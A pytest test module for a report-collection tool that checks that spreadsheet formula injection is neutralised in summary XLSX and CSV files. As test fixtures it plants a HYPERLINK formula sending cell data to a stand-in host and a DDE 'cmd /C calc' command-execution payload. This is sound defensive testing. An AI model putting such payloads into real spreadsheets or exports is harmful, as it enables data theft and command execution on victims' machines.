"""Input is data, never a formula: a unit or metric written like a spreadsheet formula
stays text in the summary's XLSX and CSV, while the figures stay numbers."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
import yaml
from openpyxl import load_workbook

from conftest import SAMPLE, run_pact, write_yaml
from forms import fill_docx

PERIOD = "so-ket-6-thang"
TAIL = f"CTD12-2024-{PERIOD}"  # the summary files' names: tong-hop-TAIL.pdf, …
TTXH = "giam-toi-pham-ttxh"
UNITS = ['=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")', "@SUM(A1:A9)"]
METRICS = ["+1+cmd|' /C calc'!A0", "-2+3"]


@pytest.fixture(scope="module")
def collected(tmp_path_factory) -> Path:
    work = tmp_path_factory.mktemp("formulas")
    data = yaml.safe_load(SAMPLE.read_text(encoding="utf-8"))
    members = data["members"][1:3]
    for member, unit in zip(members, UNITS):
        member["unit"] = unit
    targets = [i for s in data["sections"] for i in s["items"] if i.get("target")]
    for item, metric in zip(targets, METRICS):
        item["target"]["metric"] = metric
    pact = write_yaml(work / "pact.yaml", data)
    assert run_pact("build", pact, "--out", work / "forms", "--only", "report-form").returncode == 0
    (work / "in").mkdir()
    for member in members:
        blank = work / "forms" / "2024" / "CTD12" / f"bao-cao-{member['id']}-{PERIOD}.docx"
        # a decrease: the change percentage is negative and must stay a number
        fill_docx(blank, work / "in" / f"{member['id']}.docx", {f"{TTXH}:baseline": "1000", f"{TTXH}:current": "900"})
    result = run_pact("collect", pact, work / "in", "--period", PERIOD, "--out", work / "out")
    assert result.returncode == 0, result.stderr
    return work / "out"


def test_no_formula_in_the_workbook(collected):
    with zipfile.ZipFile(collected / f"tong-hop-{TAIL}.xlsx") as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any(b"<f>" in xml or b"<f " in xml for xml in sheets)
    book = load_workbook(collected / f"tong-hop-{TAIL}.xlsx")
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    risky = [c for c in cells if isinstance(c.value, str) and c.value[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert {c.value for c in risky} >= {*UNITS, *METRICS}
    for cell in risky:
        assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
    negative = [c for c in cells if isinstance(c.value, (int, float)) and c.value < 0]
    assert negative and all(c.data_type == "n" for c in negative)  # the change stays a number


def test_csv_fields_are_not_formulas(collected):
    rows = list(csv.DictReader(io.StringIO((collected / f"tong-hop-{TAIL}.csv").read_text(encoding="utf-8-sig"))))
    metrics = {r["metric"] for r in rows}
    assert {f"'{m}" for m in METRICS} <= metrics
    assert not any(m[:1] in ("=", "+", "-", "@", "\t", "\r") for m in metrics)
    change = [r["change_percent"] for r in rows if r["item"] == TTXH and r["change_percent"]]
    assert change == ["-10.0", "-10.0"]  # numbers stay numbers
    units = (collected / f"xep-hang-{TAIL}.csv").read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" not in units  # the ranking CSV names members by id, never by unit
